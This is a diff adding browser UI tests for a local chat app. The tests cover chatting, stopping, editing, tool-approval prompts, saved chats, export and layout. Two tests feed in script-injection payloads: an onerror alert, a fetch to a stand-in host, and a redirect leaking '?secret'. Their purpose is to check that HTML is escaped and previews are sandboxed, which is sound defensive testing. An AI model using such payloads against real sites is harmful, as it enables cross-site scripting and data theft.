@@ -1,0 +1,295 @@
+"""The page in a browser, with nano: what a user sees and does."""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from glm4lite.engine import Engine
+from glm4lite.tools import BUILTIN_TOOLS
+from tests.ui.conftest import Serve
+from tests.ui.slow_model import slow_engine
+
+Visit = Callable[..., Any]
+QUESTION = "What is 37 * 24?"
+ASKING = [replace(tool, needs_approval=True) for tool in BUILTIN_TOOLS]
+
+
+def ask(page: Any, text: str) -> None:
+    """Sends a message; returns when it stands in the chat."""
+    asked = page.get_by_test_id("user").count()
+    page.fill("#message textarea", text)
+    page.keyboard.press("Enter")
+    page.wait_for_function(f"document.querySelectorAll('[data-testid=user]').length > {asked}")
+
+
+def wait_for_end(page: Any) -> None:
+    """The stop button is gone."""
+    page.wait_for_selector("#message .stop-button", state="detached")
+
+
+def answers(page: Any) -> str:
+    return page.inner_text("#chatbot")
+
+
+def test_a_first_visitor_asks_and_sees_the_calculator_and_its_answer(serve: Serve, visit: Visit) -> None:
+    page = visit(serve().url)
+    page.get_by_text(QUESTION).click()  # the example of the empty page
+    page.wait_for_selector("text=37 * 24 = 888.")
+    wait_for_end(page)
+    panel = page.locator(".thought-group")
+    assert "calculator" in panel.inner_text()
+    assert "888" in panel.inner_text()
+    panel.locator("[role=button]").click()
+    page.wait_for_selector("text=Result")
+    assert '"expression": "37 * 24"' in panel.inner_text()
+    line = page.inner_text("#live")
+    assert "context" in line
+    assert "computed" in line
+    assert "weights" in line
+    assert "KV" in line
+
+
+def test_stop_ends_the_answer_and_the_engine_within_a_second(serve: Serve, visit: Visit, nano: Engine) -> None:
+    site = serve(slow_engine(nano, "word " * 3000))
+    page = visit(site.url)
+    ask(page, "Write for long")
+    page.wait_for_selector("text=word word word")
+    page.click("#message .stop-button")
+    assert site.idle_after() < 1
+    wait_for_end(page)
+    page.wait_for_selector("text=Stopped.")
+    assert site.runtime.store.find()[0].turns[0].parts[0].text.startswith("word word")
+
+
+def test_leaving_the_page_stops_the_answer_and_keeps_what_was_said(serve: Serve, visit: Visit, nano: Engine) -> None:
+    site = serve(slow_engine(nano, "word " * 3000))
+    page = visit(site.url)
+    ask(page, "Write for long")
+    page.wait_for_selector("text=word word word")
+    page.context.close()
+    assert site.idle_after() < 5
+    deadline = time.monotonic() + 3
+    while site.runtime.answers and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert site.runtime.store.find()[0].turns[0].parts[0].text.startswith("word word")
+
+
+def test_an_answer_is_made_again_and_a_message_edited(serve: Serve, visit: Visit) -> None:
+    site = serve()
+    page = visit(site.url)
+    ask(page, QUESTION)
+    wait_for_end(page)
+    page.click("#chatbot button[aria-label=Retry]")
+    wait_for_end(page)
+    page.wait_for_selector("text=37 * 24 = 888.")
+    assert len(site.runtime.store.find()[0].turns) == 1
+    page.get_by_label("Edit").first.click()
+    page.locator("#chatbot textarea").fill("What is 12 * 12?")
+    page.click("#chatbot button[aria-label=Submit]")
+    page.wait_for_selector("text=12 * 12 = 144.")
+    wait_for_end(page)
+    chat = site.runtime.store.find()[0]
+    assert [turn.user for turn in chat.turns] == ["What is 12 * 12?"]
+    assert "888" not in answers(page)
+
+
+def test_a_turn_is_deleted_and_the_last_one_taken_back(serve: Serve, visit: Visit) -> None:
+    site = serve()
+    page = visit(site.url)
+    for question in (QUESTION, "Hi"):
+        ask(page, question)
+        wait_for_end(page)
+    page.get_by_test_id("user").first.click()
+    page.get_by_text("Delete this turn").click()
+    page.wait_for_selector("text=888", state="detached")
+    assert [turn.user for turn in site.runtime.store.find()[0].turns] == ["Hi"]
+    page.click("#chatbot button[aria-label=Undo]")
+    page.wait_for_function("document.querySelector('#message textarea').value === 'Hi'")
+    assert site.runtime.store.find()[0].turns == []
+
+
+@pytest.mark.parametrize(("button", "result"), [("Approve", "888"), ("Deny", "did not allow")])
+def test_a_tool_that_asks_waits_for_the_users_word(serve: Serve, visit: Visit, button: str, result: str) -> None:
+    site = serve(tools=ASKING)
+    page = visit(site.url)
+    ask(page, QUESTION)
+    page.wait_for_selector("#asking >> text=calculator")
+    assert "37 * 24" in page.inner_text("#asking")
+    assert not site.runtime.worker.state().running  # others may use the model meanwhile
+    page.click(f"#asking button:text-is('{button}')")
+    wait_for_end(page)
+    page.wait_for_selector("#asking", state="hidden")
+    assert result in site.runtime.store.find()[0].turns[0].parts[0].text
+
+
+def test_always_for_this_chat_asks_once_and_can_be_taken_back(serve: Serve, visit: Visit) -> None:
+    site = serve(tools=ASKING)
+    page = visit(site.url)
+    ask(page, QUESTION)
+    page.click("#asking button:text-is('Always for this chat')")
+    wait_for_end(page)
+    ask(page, "What is 12 * 12?")
+    page.wait_for_selector("text=12 * 12 = 144.")
+    assert site.runtime.store.find()[0].settings.always == ["calculator"]
+
+
+def test_stop_while_a_tool_waits_denies_it(serve: Serve, visit: Visit) -> None:
+    site = serve(tools=ASKING)
+    page = visit(site.url)
+    ask(page, QUESTION)
+    page.wait_for_selector("#asking >> text=calculator")
+    page.click("#message .stop-button")
+    wait_for_end(page)
+    assert not site.runtime.answers
+
+
+def test_chats_survive_a_restart_and_are_found_renamed_and_deleted(serve: Serve, visit: Visit, tmp_path: Path) -> None:
+    first = serve(folder=tmp_path / "kept")
+    page = visit(first.url)
+    ask(page, QUESTION)
+    wait_for_end(page)
+    page.fill("#chat-title textarea", "Products")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("#chats >> text=Products")
+    page.click("#new-chat")
+    page.wait_for_selector("text=Nothing you write leaves it")
+    ask(page, "Hi")
+    page.wait_for_selector("#chats >> text=Hi")
+    wait_for_end(page)
+    page.context.close()
+    first.close()
+
+    page = visit(serve(folder=tmp_path / "kept").url)
+    page.wait_for_selector("#chats >> text=Hi")
+    page.locator("#search textarea").press_sequentially("888")
+    page.wait_for_selector("#chats >> text=Hi", state="detached")
+    page.click("#chats >> text=Products")
+    page.wait_for_selector("text=37 * 24 = 888.")
+    page.reload()
+    page.wait_for_selector("text=37 * 24 = 888.")
+    page.on("dialog", lambda dialog: dialog.accept())
+    page.click("#chats li:has-text('Products') .g-remove")
+    page.wait_for_selector("#chats >> text=Products", state="detached")
+    assert [path.suffix for path in (tmp_path / "kept").iterdir()] == [".json"]
+
+
+def test_a_chat_is_exported_as_markdown_and_json(serve: Serve, visit: Visit) -> None:
+    page = visit(serve().url)
+    ask(page, QUESTION)
+    wait_for_end(page)
+    texts = {}
+    page.click("#settings .toggle-button")
+    for kind in ("Markdown", "JSON"):
+        with page.expect_download() as download:
+            page.click(f"#export >> text={kind}")
+        texts[kind] = Path(download.value.path()).read_text(encoding="utf-8")
+        assert download.value.suggested_filename.startswith("What-is-37-24.")
+    assert "37 * 24 = 888." in texts["Markdown"]
+    roles = [message["role"] for message in json.loads(texts["JSON"])["messages"]]
+    assert roles == ["user", "assistant", "tool", "assistant"]
+
+
+def test_settings_belong_to_the_chat(serve: Serve, visit: Visit) -> None:
+    site = serve()
+    page = visit(site.url)
+    page.click("#settings .toggle-button")
+    page.get_by_label("calculator").uncheck()
+    page.fill("#system textarea", "Be brief.")
+    page.get_by_label("Seed").fill("7")
+    page.locator("#system textarea").focus()
+    page.get_by_label("Seed").focus()
+    ask(page, "Hi")
+    wait_for_end(page)
+    settings = site.runtime.store.find()[0].settings
+    assert (settings.system, settings.seed, settings.temperature) == ("Be brief.", 7, None)
+    assert settings.tools == ["current_time", "unit_convert"]
+    page.click("#new-chat")
+    page.wait_for_function("document.querySelector('#system textarea').value === ''")
+    assert page.get_by_label("calculator").is_checked()
+
+
+def test_a_file_is_weighed_and_a_full_context_said(serve: Serve, visit: Visit, tmp_path: Path) -> None:
+    site = serve()
+    page = visit(site.url)
+    ask(page, "Hi")
+    wait_for_end(page)
+    for name in ("notes.txt", "more.txt"):
+        (tmp_path / name).write_text("Numbers and more numbers. " * 240, encoding="utf-8")
+        page.wait_for_timeout(300)  # Gradio draws the last drawing twice, and loses a file that is added in between
+        page.set_input_files("#message input[type=file]", tmp_path / name)
+        page.wait_for_selector(f"#live >> text={name}")
+        ask(page, "Hi")
+        wait_for_end(page)
+    page.wait_for_selector("text=no longer fits the model's context")
+    page.get_by_text("Drop the oldest turns and answer").click()
+    page.wait_for_selector("text=the model no longer reads this chat")
+    wait_for_end(page)
+    turns = site.runtime.store.find()[0].turns
+    assert [turn.dropped for turn in turns] == [True, True, False]
+    assert turns[-1].counts is not None
+    assert turns[-1].files[0].tokens > 1000
+
+
+def test_what_a_model_writes_is_text_code_and_formulas_but_no_html(serve: Serve, visit: Visit, nano: Engine) -> None:
+    said = (
+        "<b>not bold</b> <img src=http://other.example/a.png onerror=alert(1)> ![x](http://other.example/b.png) "
+        "**bold** 中文 \\(x^2 < y\\)\n\n```python\nprint('<i>kept</i>')\n```\n"
+        "```html\n<h1>Made</h1><script>document.body.append('ran'); fetch('http://other.example/c')"
+        ".catch(() => document.body.append(' alone')); </script><img src='http://other.example/d.png'>\n```\n"
+    )
+    page = visit(serve(slow_engine(nano, said, seconds=0)).url)
+    ask(page, "<u>Show</u> me")
+    wait_for_end(page)
+    page.wait_for_selector("#chatbot .katex")
+    assert "<b>not bold</b>" in answers(page)
+    assert "<u>Show</u> me" in answers(page)
+    assert page.locator("#chatbot strong").inner_text() == "bold"
+    page.wait_for_selector("#chatbot .token")  # highlighted
+    assert page.locator("#chatbot .message img, #chatbot .message script").count() == 0
+    page.click("#previews summary")
+    frame = page.frame_locator("#previews iframe")
+    frame.locator("text=ran alone").wait_for()
+    assert page.locator("#previews iframe").get_attribute("sandbox") == "allow-scripts"
+    visit.errors.clear()  # type: ignore[attr-defined]  # the policy's refusals, which Chromium logs
+
+
+def test_a_preview_cannot_leave_for_another_address(serve: Serve, visit: Visit, nano: Engine) -> None:
+    said = "```html\n<p>here</p><script>location.href = 'http://other.example/?secret'</script>\n```\n"
+    page = visit(serve(slow_engine(nano, said, seconds=0)).url)
+    ask(page, "Go")
+    wait_for_end(page)
+    page.click("#previews summary")
+    page.wait_for_timeout(500)
+    visit.errors.clear()  # type: ignore[attr-defined]
+
+
+def test_the_page_is_usable_at_390_pixels_and_in_the_dark(serve: Serve, visit: Visit) -> None:
+    page = visit(serve().url, viewport={"width": 390, "height": 800}, color_scheme="dark")
+    ask(page, QUESTION)
+    page.wait_for_selector("text=37 * 24 = 888.")
+    wait_for_end(page)
+    assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    box = page.locator("#message textarea").bounding_box()
+    assert box["y"] + box["height"] <= 800
+    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
+    assert max(int(part) for part in background.removeprefix("rgb(").rstrip(")").split(",")[:3]) < 80
+    page.click("#library .toggle-button")
+    page.click("#new-chat")
+    page.wait_for_selector("text=No chats yet", state="detached")
+
+
+def test_the_model_page_says_what_is_loaded(serve: Serve, visit: Visit) -> None:
+    page = visit(serve().url)
+    page.get_by_role("tab", name="Model").click()
+    page.wait_for_selector("#facts >> text=5 layers, 256 wide")
+    facts = page.inner_text("#facts")
+    assert "int4" in facts
+    assert "On cpu" in facts
+    assert "calculator" in facts
